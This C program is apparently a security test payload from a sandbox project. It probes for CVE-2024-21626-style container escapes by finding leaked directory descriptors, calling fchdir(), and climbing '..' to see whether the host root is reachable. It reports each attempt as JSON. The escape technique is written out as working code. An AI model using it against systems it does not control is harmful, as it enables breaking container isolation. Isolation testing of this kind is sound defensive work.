/* Hostile payload (filesystem): the CVE-2024-21626 class (a runtime's descriptor to a host
 * directory leaked into the container, fchdir() to it, walk out with ".."). Lists /proc/self/fd
 * and every visible process's fd directory, probes every descriptor number up to the rlimit with
 * fcntl, and for every directory it holds (inherited descriptors, the cwd, /proc/self/root and
 * /proc/<pid>/cwd of every visible process) fchdir()s there and climbs ".." to the top: what it
 * finds there must be the sandbox's own root, not the host's. One JSON line per attempt. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

/* What the sandbox's root holds (mount.c builds it; the gVisor backend's has an empty read-only
 * /sys too, over the sysfs runsc would mount); anything else at the top of a ".." climb is a
 * directory of the host (home, root, var, ...). */
static const char *const sandbox_root_names[] = {"bin",   "dev",    "etc",       "lib",  "lib32",
                                                 "lib64", "libx32", "proc",      "sbin", "sys",
                                                 "tmp",   "usr",    "workspace", ".",    ".."};

static void report(const char *op, const char *target, long ret, const char *err,
                   const char *detail)
{
        printf("{\"op\": \"%s\", \"target\": \"%s\", \"ret\": %ld, \"errno\": %s%s%s, "
               "\"detail\": \"%s\"}\n",
               op, target, ret, err ? "\"" : "", err ? err : "null", err ? "\"" : "",
               detail ? detail : "");
        fflush(stdout);
}

static const char *errname(int err)
{
        return strerrorname_np(err) ? strerrorname_np(err) : "UNKNOWN";
}

static bool allowed_root_name(const char *name)
{
        for (size_t i = 0; i < sizeof(sandbox_root_names) / sizeof(sandbox_root_names[0]); i++)
                if (strcmp(name, sandbox_root_names[i]) == 0)
                        return true;
        return false;
}

/* From the directory `dirfd`, climb ".." until it stops moving, then judge the top. */
static void climb(int dirfd, const char *label)
{
        if (fchdir(dirfd) < 0) {
                report("climb_to_root", label, -1, errname(errno), "fchdir");
                return;
        }
        char before[PATH_MAX] = "";
        if (getcwd(before, sizeof(before)) == NULL)
                snprintf(before, sizeof(before), "getcwd: %s", errname(errno));
        struct stat here, up;
        for (int i = 0; i < 256; i++) {
                if (stat(".", &here) < 0 || stat("..", &up) < 0)
                        break;
                if (here.st_dev == up.st_dev && here.st_ino == up.st_ino)
                        break;
                if (chdir("..") < 0)
                        break;
        }
        /* The top: which names does it hold, and is it the root this process sees as "/"? */
        struct stat root;
        stat("/", &root);
        stat(".", &here);
        bool same_as_root = here.st_dev == root.st_dev && here.st_ino == root.st_ino;
        char foreign[1024] = "";
        size_t len = 0;
        DIR *d = opendir(".");
        if (d != NULL) {
                struct dirent *e;
                while ((e = readdir(d)) != NULL)
                        if (!allowed_root_name(e->d_name) && len < sizeof(foreign) - 64)
                                len += (size_t)snprintf(foreign + len, sizeof(foreign) - len, "%s ",
                                                        e->d_name);
                closedir(d);
        }
        char detail[PATH_MAX + 1200];
        snprintf(detail, sizeof(detail), "from %s; top is %s; foreign names: %s", before,
                 same_as_root ? "our /" : "NOT our /", foreign);
        /* (unreachable) in getcwd means the directory is outside our root: the CVE's state. */
        bool escaped = !same_as_root || len > 0 || strncmp(before, "(unreachable)", 13) == 0;
        report("climb_to_root", label, 0, escaped ? "HOST_ROOT" : "SANDBOX_ROOT", detail);
}

static void list_fd_dir(const char *dir, const char *label)
{
        bool self = strcmp(label, "self") == 0;
        const char *op = self ? "list_fds" : "list_fds_other";
        DIR *d = opendir(dir);
        if (d == NULL) {
                report(op, label, -1, errname(errno), dir);
                return;
        }
        int own = dirfd(d);
        char names[1024] = "";
        size_t len = 0;
        bool extra = false;
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
                if (e->d_name[0] == '.')
                        continue;
                int fd = atoi(e->d_name);
                if (self && fd == own)
                        continue; /* the directory stream's own descriptor */
                if (fd > 2)
                        extra = true;
                if (len < sizeof(names) - 16)
                        len += (size_t)snprintf(names + len, sizeof(names) - len, "%s ", e->d_name);
        }
        closedir(d);
        report(op, label, 0, extra ? "EXTRA_FDS" : "ONLY_STDIO", names);
}

int main(void)
{
        list_fd_dir("/proc/self/fd", "self");

        /* Every descriptor number up to the limit, without trusting /proc. */
        struct rlimit nofile = {1024, 1024};
        getrlimit(RLIMIT_NOFILE, &nofile);
        long limit = nofile.rlim_cur > 65536 ? 65536 : (long)nofile.rlim_cur;
        int open_dirs[64], n_dirs = 0;
        char open_list[1024] = "";
        size_t len = 0;
        long n_open = 0;
        for (long fd = 3; fd < limit; fd++) {
                if (fcntl((int)fd, F_GETFD) < 0)
                        continue;
                n_open++;
                char link[PATH_MAX] = "", proc[64];
                snprintf(proc, sizeof(proc), "/proc/self/fd/%ld", fd);
                ssize_t n = readlink(proc, link, sizeof(link) - 1);
                if (n > 0)
                        link[n] = '\0';
                if (len < sizeof(open_list) - 64)
                        len += (size_t)snprintf(open_list + len, sizeof(open_list) - len,
                                                "%ld->%.40s ", fd, link);
                struct stat st;
                if (fstat((int)fd, &st) == 0 && S_ISDIR(st.st_mode) && n_dirs < 64)
                        open_dirs[n_dirs++] = (int)fd;
        }
        report("probe_fds", "3..RLIMIT_NOFILE", n_open, n_open ? "OPEN_FDS" : "EBADF", open_list);
        for (int i = 0; i < n_dirs; i++) {
                char label[32];
                snprintf(label, sizeof(label), "fd %d", open_dirs[i]);
                climb(open_dirs[i], label);
        }

        /* The cwd the program was started in, and the roots/cwds of every visible process. */
        int cwd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (cwd >= 0) {
                climb(cwd, "cwd");
                close(cwd);
        }
        DIR *procs = opendir("/proc");
        struct dirent *e;
        while (procs != NULL && (e = readdir(procs)) != NULL) {
                if (e->d_name[0] < '0' || e->d_name[0] > '9' || strlen(e->d_name) > 16)
                        continue;
                char path[64], label[64];
                if (atoi(e->d_name) != getpid()) {
                        /* Another process of the sandbox: what it holds is its own business,
                         * unless it is a directory leading out, which the climbs check. */
                        snprintf(path, sizeof(path), "/proc/%s/fd", e->d_name);
                        snprintf(label, sizeof(label), "pid %s", e->d_name);
                        list_fd_dir(path, label);
                        DIR *fds = opendir(path);
                        struct dirent *f;
                        while (fds != NULL && (f = readdir(fds)) != NULL) {
                                if (f->d_name[0] == '.' || strlen(f->d_name) > 10)
                                        continue;
                                char fdpath[96];
                                snprintf(fdpath, sizeof(fdpath), "%s/%s", path, f->d_name);
                                int fd = open(fdpath, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                                if (fd < 0)
                                        continue; /* not a directory, or not ours to open */
                                snprintf(label, sizeof(label), "pid %s fd %s", e->d_name,
                                         f->d_name);
                                climb(fd, label);
                                close(fd);
                        }
                        if (fds != NULL)
                                closedir(fds);
                }
                for (int k = 0; k < 2; k++) {
                        snprintf(path, sizeof(path), "/proc/%s/%s", e->d_name, k ? "root" : "cwd");
                        snprintf(label, sizeof(label), "pid %s %s", e->d_name, k ? "root" : "cwd");
                        int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                        if (fd < 0) {
                                report("climb_to_root", label, -1, errname(errno), path);
                                continue;
                        }
                        climb(fd, label);
                        close(fd);
                }
        }
        if (procs != NULL)
                closedir(procs);
        /* The init's, by name (hidden when hidepid works). */
        static const char *const init_dirs[] = {"/proc/1/cwd", "/proc/1/root"};
        for (int k = 0; k < 2; k++) {
                int fd = open(init_dirs[k], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                if (fd < 0) {
                        report("open_init_dir", init_dirs[k], -1, errname(errno), "");
                        continue;
                }
                report("open_init_dir", init_dirs[k], fd, NULL, "");
                climb(fd, init_dirs[k]);
                close(fd);
        }
        return 0;
}
